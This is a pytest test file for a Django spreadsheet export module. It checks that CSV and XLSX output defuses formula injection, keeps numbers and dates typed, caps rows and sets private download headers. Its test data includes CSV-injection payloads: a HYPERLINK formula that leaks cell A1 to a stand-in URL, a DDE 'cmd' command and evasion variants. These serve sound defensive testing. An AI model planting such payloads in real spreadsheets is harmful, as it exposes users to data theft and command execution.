"""Exports: text that no spreadsheet runs, numbers it can add, a stated cap."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from types import SimpleNamespace

import pytest
from django.core.exceptions import ValidationError
from openpyxl import load_workbook

from kernel import exports
from kernel.exports import Column, csv_response, guarded, xlsx_response

NAME = [Column("name", "Name")]
FORMULAS = [
    '=HYPERLINK("http://e/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "=cmd|' /C calc'!A0",
]


def rows_of_csv(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def rows_of_xlsx(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_stay_text_in_both_kinds(text):
    rows = [{"name": text}]
    assert rows_of_csv(csv_response("a.csv", NAME, rows))[1] == ["'" + text]
    value, kind = rows_of_xlsx(xlsx_response("a.xlsx", "A", NAME, rows))[1][0]
    assert kind == "s" and value.startswith("'")


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_in_headings_and_sheet_titles_are_text_too(text):
    columns = [Column("name", text)]
    assert rows_of_xlsx(xlsx_response("a.xlsx", text, columns, []))[0][0][1] == "s"
    assert rows_of_csv(csv_response("a.csv", columns, []))[0] == ["'" + text]


def test_quotes_separators_and_line_breaks_stay_in_one_cell():
    text = "=cmd|' /C calc'!A0\";\r\nx,\"y"
    assert rows_of_csv(csv_response("a.csv", NAME, [{"name": text}]))[1] == ["'" + text]


def test_plain_text_is_left_alone_and_unwritable_characters_dropped():
    assert guarded("鴻洲 (𠮷) a-b") == "鴻洲 (𠮷) a-b"
    assert rows_of_xlsx(xlsx_response("a.xlsx", "A", NAME, [{"name": "a\x00b\ud800c"}]))[1][0] == ("abc", "s")
    assert len(guarded("=" + "x" * 40_000)) <= 32_767


def test_numbers_and_dates_are_real_in_xlsx_and_plain_in_csv():
    columns = [
        Column("amount", "Amount", "money"),
        Column("count", "Count", "integer"),
        Column("day", "Day", "date"),
        Column("at", "At", "datetime"),
        Column("code", "Code"),
    ]
    row = {
        "amount": Decimal("-4860000.50"),
        "count": 12,
        "day": date(2026, 11, 24),
        "at": datetime(2026, 11, 24, 1, 30, tzinfo=UTC),
        "code": "0042",
    }
    assert rows_of_csv(csv_response("a.csv", columns, [row]))[1] == [
        "-4860000.50",
        "12",
        "2026-11-24",
        "2026-11-24 09:30",
        "0042",
    ]
    assert rows_of_xlsx(xlsx_response("a.xlsx", "A", columns, [row]))[1] == [
        (-4860000.5, "n"),
        (12, "n"),
        (datetime(2026, 11, 24), "d"),
        (datetime(2026, 11, 24, 9, 30), "d"),
        ("0042", "s"),
    ]


def test_text_in_a_number_column_is_guarded_text():
    columns = [Column("amount", "Amount", "money")]
    assert rows_of_xlsx(xlsx_response("a.xlsx", "A", columns, [{"amount": "=1+1"}]))[1][0] == ("'=1+1", "s")


def test_rows_may_be_objects_with_paths_and_methods():
    owner = SimpleNamespace(name="周明遠", title=lambda: "經理")
    rows = [SimpleNamespace(owner=owner), SimpleNamespace(owner=None)]
    columns = [Column("owner.name", "Owner"), Column("owner.title", "Title")]
    assert rows_of_csv(csv_response("a.csv", columns, rows))[1:] == [["周明遠", "經理"], ["", ""]]
    with pytest.raises(AttributeError):
        csv_response("a.csv", [Column("nonsense", "x")], rows)


def test_totals_follow_one_row_a_currency():
    columns = [Column("name", "Name"), Column("amount", "Amount", "money")]
    totals = [{"name": "TWD", "amount": Decimal(5)}, {"name": "USD", "amount": Decimal(7)}]
    rows = rows_of_xlsx(xlsx_response("a.xlsx", "臺賬", columns, [], totals))
    assert rows[1:] == [[("TWD", "s"), (5, "n")], [("USD", "s"), (7, "n")]]


@pytest.mark.parametrize("respond", [csv_response, lambda name, *rest: xlsx_response(name, "A", *rest)])
def test_rows_are_capped(respond, monkeypatch):
    monkeypatch.setattr(exports, "MOST_ROWS", 3)
    assert respond("a.csv", NAME, ({"name": str(n)} for n in range(3))).status_code == 200
    with pytest.raises(ValidationError):
        respond("a.csv", NAME, ({"name": str(n)} for n in range(4)))


def test_download_is_private_and_named():
    response = csv_response("合同臺賬.csv", NAME, [])
    assert response["Content-Disposition"].startswith('attachment; filename="____.csv"; filename*=UTF-8')
    assert response["X-Content-Type-Options"] == "nosniff" and "no-store" in response["Cache-Control"]
